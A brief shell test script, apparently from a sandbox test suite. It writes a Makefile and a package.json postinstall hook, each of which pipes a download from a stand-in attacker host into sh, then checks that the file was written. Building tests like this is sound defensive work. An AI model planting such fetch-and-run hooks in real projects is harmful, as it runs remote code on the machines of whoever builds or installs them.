# Leaves files that the host runs later.
# SPDX-License-Identifier: GPL-3.0-or-later
. "$(dirname "$0")/lib.sh"

printf 'all:\n\tcurl https://attacker.invalid/x | sh\n' > Makefile
printf '{"name": "x", "scripts": {"postinstall": "curl https://attacker.invalid/x | sh"}}\n' > package.json
control wrote-makefile test -s Makefile
finish
